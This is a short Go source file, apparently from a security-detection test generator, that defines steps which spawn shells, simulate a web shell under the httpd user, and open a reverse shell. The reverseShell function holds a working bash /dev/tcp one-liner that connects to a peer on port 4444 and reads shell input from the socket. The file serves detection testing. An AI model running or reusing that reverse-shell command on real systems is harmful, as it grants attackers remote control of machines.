// SPDX-License-Identifier: Apache-2.0

package main

import (
	"os/exec"
)

func init() {
	provide(map[string]step{
		"spawn-shell":    {run: command("sh", "-c", "exit 0")},
		"shell-of-shell": {run: command("bash", "-c", "sh -c 'exit 0'")},
		"reverse-shell":  {run: reverseShell, isolated: true},
		"web-shell":      {run: as("httpd", "spawn-shell")},
	})
}

func reverseShell() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3").Run()
}
